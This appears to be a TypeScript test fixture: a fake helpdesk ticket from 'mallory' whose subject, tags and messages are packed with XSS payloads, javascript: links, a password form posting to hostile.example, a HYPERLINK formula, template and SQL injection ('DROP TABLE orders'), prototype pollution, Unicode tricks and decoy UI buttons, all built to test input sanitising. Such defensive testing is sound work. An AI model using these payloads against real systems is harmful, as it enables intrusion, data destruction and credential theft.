import type { Story } from './story.ts';

const RTL = '\u202E';
const ZERO = '\u200B\u200C\u200D\u2060\uFEFF';

/** Tries to run, to break out, to turn the text round, and to be a formula. */
export const story: Story = {
  id: 20460,
  subject: `</title><script>window.pwned=3</script> Refund ${RTL}gnp.eciovni <b>now</b> {{7*7}} =HYPERLINK("https://hostile.example","click")`,
  channel: 'email',
  status: 'open',
  priority: 'normal',
  tags: ['<i>tag</i>', '"onmouseover="window.pwned=4'],
  requester: 'mallory',
  assignee: 'tom',
  log: [
    {
      from: 'mallory',
      ago: '3h',
      text: `<img src=x onerror="window.pwned=5"> Hello, <script>window.pwned=6</script> I'd like my money back, please.

${RTL}.siht daer t'nac uoY${'\u202C'} Zero${ZERO}width. ${'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349\u035A\u032F\u031E\u0320\u034DA'} ${'wide'.repeat(400)}

<a href="javascript:window.pwned=7">a link</a> [x](javascript:window.pwned=8) </div></article></main>`,
      html: `<div class="zd-comment" dir="auto"><p>Hello, I'd like my money back, please.</p><img src="x" onerror="window.pwned=9"><script>window.pwned=10</script><svg onload="window.pwned=11"><a xlink:href="javascript:window.pwned=12"><text>svg</text></a></svg><p onclick="window.pwned=13" style="position:fixed;inset:0">${RTL}.siht daer t'nac uoY${'\u202C'} Zero${ZERO}width. ${'wide'.repeat(400)}</p><a href="javascript:window.pwned=14">a link</a><iframe srcdoc="<script>parent.pwned=15</script>"></iframe><form action="https://hostile.example"><input name="password"></form><style>*{display:none}</style><div contenteditable="true" data-test-id="omnicomposer-rich-text-ckeditor">A false composer</div><button data-test-id="submit_button-button">A false button</button></div></div></article>`,
    },
    {
      from: 'tom',
      ago: '2h',
      text: `Hi Robert,

Thank you for writing. I'm afraid your message came through a little scrambled. Could you tell me which order this is about?

Kind regards,
Tom`,
    },
    {
      from: 'mallory',
      ago: '50m',
      text: `Order ‘); DROP TABLE orders;-- and also __proto__ . Thanks! "><textarea autofocus onfocus=window.pwned=16>`,
    },
  ],
};
